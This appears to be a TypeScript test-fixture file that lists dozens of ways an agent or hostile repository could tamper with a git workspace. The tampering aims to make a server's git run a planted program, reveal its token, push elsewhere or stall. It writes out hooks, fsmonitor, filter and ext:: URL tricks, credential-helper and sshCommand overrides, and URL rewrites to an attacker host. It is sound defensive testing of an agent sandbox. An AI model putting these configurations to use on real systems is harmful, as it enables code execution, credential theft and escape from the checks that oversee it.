import { cp, mkdir, rename, symlink, writeFile } from 'node:fs/promises';
import { join } from 'node:path';
import type { Entry } from '../workspaces/world.ts';
import type { Arena } from './git-arena.ts';

/**
 * An attack of a repository or an agent that tries to make the server's git run a program, reveal the token, publish
 * something else, or stop. Unless the server refuses, it must still publish the legitimate changes.
 */
export type GitAttack = {
  name: string;
  /** Files of the hostile repository. */
  upstream?: readonly Entry[];
  /** Actions of the agent in its workspace. */
  plant?(arena: Arena): Promise<unknown> | unknown;
  /** Error code, when the server refuses the operation. */
  refused?: string;
};

const HOOKS = ['pre-commit', 'prepare-commit-msg', 'commit-msg', 'post-commit', 'pre-push', 'post-merge'];
const REF_HOOKS = ['reference-transaction', 'post-index-change'];
const RELAY = 'https://github.com/';

export const GIT_ATTACKS: readonly GitAttack[] = [
  ...[...HOOKS, ...REF_HOOKS].map((hook) => ({
    name: `the hook ${hook} is a program`,
    plant: async ({ gitDir, program }: Arena) => {
      await mkdir(join(gitDir, 'hooks'), { recursive: true });
      await symlink(program, join(gitDir, 'hooks', hook));
    },
  })),
  {
    name: 'the configuration moves hooks to a folder of the workspace',
    plant: async ({ config, workspace, program }) => {
      await mkdir(join(workspace, 'hooks'));
      await symlink(program, join(workspace, 'hooks/pre-commit'));
      await config('[core]\n\thooksPath = hooks');
    },
  },
  {
    name: 'the configuration sets a file system monitor',
    plant: ({ config, program }) => config(`[core]\n\tfsmonitor = ${program}`),
  },
  {
    name: 'the configuration includes another file',
    plant: async ({ config, write, program }) => {
      await write('included', `[core]\n\tfsmonitor = ${program}\n`);
      await config('[include]\n\tpath = ../included');
    },
  },
  {
    name: 'the configuration of the worktree sets a file system monitor',
    plant: async ({ config, gitDir, program }) => {
      await config('[extensions]\n\tworktreeConfig = true');
      await writeFile(join(gitDir, 'config.worktree'), `[core]\n\tfsmonitor = ${program}\n`);
    },
  },
  {
    name: '.git is a link',
    plant: async ({ gitDir, outside, config, program }) => {
      await config(`[core]\n\tfsmonitor = ${program}`);
      await rename(gitDir, join(outside, 'repository'));
      await symlink(join(outside, 'repository'), gitDir);
    },
  },
  {
    name: '.git is a file that names another folder',
    plant: async ({ gitDir, outside, config, program }) => {
      await config(`[core]\n\tfsmonitor = ${program}`);
      await rename(gitDir, join(outside, 'repository'));
      await writeFile(gitDir, `gitdir: ${join(outside, 'repository')}\n`);
    },
  },
  { name: 'the worktree is another folder', plant: ({ config, outside }) => config(`[core]\n\tworktree = ${outside}`) },
  {
    name: 'a clean filter is a program',
    plant: async ({ config, write, program }) => {
      await write('.gitattributes', '* filter=x\n');
      await config(`[filter "x"]\n\tclean = ${program}`);
    },
  },
  {
    name: 'a smudge filter is a program',
    plant: async ({ config, write, program }) => {
      await write('.gitattributes', '* filter=x\n');
      await config(`[filter "x"]\n\tsmudge = ${program}`);
    },
  },
  {
    name: 'a filter is a long-running process',
    plant: async ({ config, write, program }) => {
      await write('.gitattributes', '* filter=x\n');
      await config(`[filter "x"]\n\tprocess = ${program}`);
    },
  },
  {
    name: 'the repository selects a filter of the machine',
    upstream: [{ path: '.gitattributes', content: '* filter=lfs diff=lfs merge=lfs -text\n' }],
  },
  {
    name: 'the agent selects a filter of the machine',
    plant: ({ write }) => write('.gitattributes', '* filter=lfs\n'),
  },
  {
    name: 'a merge driver is a program',
    plant: async ({ config, write, program }) => {
      await write('.gitattributes', '* merge=x\n');
      await config(`[merge "x"]\n\tdriver = ${program} %A`);
    },
  },
  { name: 'an external diff is a program', plant: ({ config, program }) => config(`[diff]\n\texternal = ${program}`) },
  {
    name: 'a textconv filter is a program',
    plant: async ({ config, write, program }) => {
      await write('.gitattributes', '* diff=x\n');
      await config(`[diff "x"]\n\ttextconv = ${program}`);
    },
  },
  {
    name: 'a diff driver is a program',
    plant: async ({ config, write, program }) => {
      await write('.gitattributes', '* diff=x\n');
      await config(`[diff "x"]\n\tcommand = ${program}`);
    },
  },
  {
    name: 'the signing program is replaced',
    plant: ({ config, program }) => config(`[commit]\n\tgpgSign = true\n[gpg]\n\tprogram = ${program}`),
  },
  {
    name: 'the command for the signing key is a program',
    plant: ({ config, program }) =>
      config(`[commit]\n\tgpgSign = true\n[gpg]\n\tformat = ssh\n[gpg "ssh"]\n\tdefaultKeyCommand = ${program}`),
  },
  {
    name: 'a credential helper is a program',
    plant: ({ config, program }) => config(`[credential]\n\thelper = ${program}`),
  },
  {
    name: 'the ssh command is replaced',
    plant: ({ config, program }) =>
      config(`[core]\n\tsshCommand = ${program}\n[remote "origin"]\n\tpushurl = ssh://git@evil.invalid/x`),
  },
  {
    name: 'a URL is rewritten to ssh',
    plant: ({ config, program, upstream }) =>
      config(`[core]\n\tsshCommand = ${program}\n${rewrite('ssh://git@evil.invalid/', 'insteadOf', upstream)}`),
  },
  {
    name: 'the push URL is a program',
    plant: ({ config, program }) =>
      config(`[protocol "ext"]\n\tallow = always\n[remote "origin"]\n\tpushurl = ext::${program} %S`),
  },
  {
    name: 'a URL is rewritten to a program',
    plant: ({ config, program, upstream }) =>
      config(`[protocol "ext"]\n\tallow = always\n${rewrite(`ext::${program} `, 'insteadOf', upstream)}`),
  },
  {
    name: 'the receive-pack of a local remote is a program',
    plant: async ({ config, outside, program, git }) => {
      git('init', '--quiet', '--bare', join(outside, 'bare'));
      await config(`[remote "origin"]\n\tpushurl = ${join(outside, 'bare')}\n\treceivepack = ${program}`);
    },
  },
  {
    name: 'the command for refs of alternates is a program',
    plant: async ({ config, gitDir, outside, program, git }) => {
      git('clone', '--quiet', '--bare', gitDir, join(outside, 'alternate'));
      await writeFile(join(gitDir, 'objects/info/alternates'), `${join(outside, 'alternate/objects')}\n`);
      await config(`[core]\n\talternateRefsCommand = ${program}`);
    },
  },
  {
    name: 'a promisor remote fetches an object by a program',
    plant: async ({ config, outside, program, git }) => {
      git('init', '--quiet', '--bare', join(outside, 'promisor'));
      git('update-index', '--add', '--cacheinfo', `100644,${'1'.repeat(40)},lazy.txt`);
      await config(
        `[core]\n\trepositoryformatversion = 1\n[extensions]\n\tpartialClone = lazy\n[remote "lazy"]\n\tpromisor = true\n\turl = ${join(outside, 'promisor')}\n\tuploadpack = ${program}`,
      );
    },
  },
  {
    name: "a URL is rewritten to the attacker's server",
    plant: ({ config, attacker, upstream }) => config(rewrite(`${attacker}/`, 'insteadOf', upstream)),
  },
  {
    name: "a push URL is rewritten to the attacker's server",
    plant: ({ config, attacker, upstream }) => config(rewrite(`${attacker}/`, 'pushInsteadOf', upstream)),
  },
  {
    name: "the push URL is the attacker's server",
    plant: ({ config, attacker }) => config(`[remote "origin"]\n\tpushurl = ${attacker}/acme/widgets.git`),
  },
  {
    name: "the remote is the attacker's server",
    plant: ({ git, attacker }) => git('remote', 'set-url', 'origin', `${attacker}/acme/widgets.git`),
  },
  {
    name: "the HTTP proxy is the attacker's server",
    plant: ({ config, attacker }) => config(`[http]\n\tproxy = ${attacker}`),
  },
  {
    name: "the HTTP proxy for one URL is the attacker's server",
    plant: ({ config, attacker, upstream }) =>
      config([upstream, RELAY].map((address) => `[http "${address}"]\n\tproxy = ${attacker}`).join('\n')),
  },
  {
    name: 'the cookie file overwrites a file outside',
    plant: ({ config, outside }) =>
      config(`[http]\n\tcookieFile = ${join(outside, 'secret.txt')}\n\tsaveCookies = true`),
  },
  { name: 'a push mirrors all refs', plant: ({ config }) => config('[remote "origin"]\n\tmirror = true') },
  {
    name: 'a push configuration overwrites the default branch',
    plant: ({ config, branch }) =>
      config(`[remote "origin"]\n\tpush = +refs/heads/${branch}:refs/heads/main\n\tpush = refs/heads/${branch}`),
  },
  {
    name: 'a push includes tags',
    plant: async ({ config, git }) => {
      git('tag', '--annotate', '--message', 'x', 'v9');
      await config('[push]\n\tfollowTags = true');
    },
  },
  {
    name: 'HEAD is the default branch',
    plant: async ({ gitDir, git, branch }) => {
      git('branch', '--quiet', '--force', 'main', branch);
      await writeFile(join(gitDir, 'HEAD'), 'ref: refs/heads/main\n');
    },
  },
  {
    name: 'the configuration sets another author',
    plant: ({ config }) => config('[user]\n\tname = Forged\n\temail = forged@example.org'),
  },
  { name: '`info/exclude` hides all files', plant: ({ gitDir }) => writeFile(join(gitDir, 'info/exclude'), '*\n') },
  {
    name: 'a file is marked as unchanged',
    plant: ({ git }) => git('update-index', '--assume-unchanged', 'shared.txt'),
  },
  { name: 'a file is marked as skipped', plant: ({ git }) => git('update-index', '--skip-worktree', 'shared.txt') },
  { name: 'a stale lock blocks the index', plant: ({ gitDir }) => writeFile(join(gitDir, 'index.lock'), '') },
  {
    name: 'attributes set a wrong encoding',
    plant: ({ write }) => write('.gitattributes', '* working-tree-encoding=UTF-32\n'),
  },
  {
    name: 'the index has a nested repository',
    plant: async (arena) => {
      await nestedRepository(arena, 'nested');
      arena.git('-c', 'advice.addEmbeddedRepo=false', 'add', 'nested');
      await hostileConfig(arena, 'nested');
      await arena.write('nested/made.txt', 'made\n');
    },
  },
  {
    name: 'a nested repository contains another',
    plant: async (arena) => {
      await nestedRepository(arena, 'nested');
      await nestedRepository(arena, 'nested/inner');
      await hostileConfig(arena, 'nested/inner');
      arena.git('-C', 'nested', '-c', 'advice.addEmbeddedRepo=false', 'add', 'inner');
      arena.git('-c', 'advice.addEmbeddedRepo=false', 'add', 'nested');
      await hostileConfig(arena, 'nested');
    },
  },
  {
    name: 'a repository replaces a submodule',
    upstream: [
      { path: '.gitmodules', content: '[submodule "sub"]\n\tpath = sub\n\turl = https://evil.invalid/sub\n' },
      { path: 'sub', mode: '160000', content: '2'.repeat(40) },
    ],
    plant: async (arena) => {
      await nestedRepository(arena, 'sub');
      await hostileConfig(arena, 'sub');
      await arena.write('sub/.gitattributes', '* filter=x\n');
      await arena.write('sub/file.txt', 'changed\n');
    },
  },
  {
    name: 'the workspace is a link',
    plant: async ({ workspace, gitDir, outside }) => {
      await cp(gitDir, join(outside, '.git'), { recursive: true });
      await rename(workspace, `${workspace}.moved`);
      await symlink(outside, workspace);
    },
    refused: 'workspace_tampered',
  },
  {
    name: 'names are equivalent to .git on some file systems',
    plant: async ({ write, program }) => {
      for (const folder of ['.GIT', 'git~1', '.g\u200cit', '.git ', '.git.']) {
        await write(`${folder}/config`, `[core]\n\tfsmonitor = ${program}\n`);
      }
    },
  },
];

function rewrite(to: string, kind: 'insteadOf' | 'pushInsteadOf', upstream: string): string {
  return `[url "${to}"]\n\t${kind} = ${upstream}/\n\t${kind} = ${RELAY}`;
}

/** Creates a repository with one commit in a folder of the workspace. */
async function nestedRepository({ git, write }: Arena, folder: string): Promise<void> {
  await write(`${folder}/file.txt`, 'file\n');
  git('init', '--quiet', folder);
  git('-C', folder, 'add', 'file.txt');
  git('-C', folder, 'commit', '--quiet', '--message', 'x');
}

async function hostileConfig({ workspace, program, git }: Arena, folder: string): Promise<void> {
  git('-C', folder, 'config', 'filter.x.clean', program);
  await writeFile(join(workspace, folder, '.gitattributes'), '* filter=x\n');
  git('-C', folder, 'config', 'core.fsmonitor', program);
}
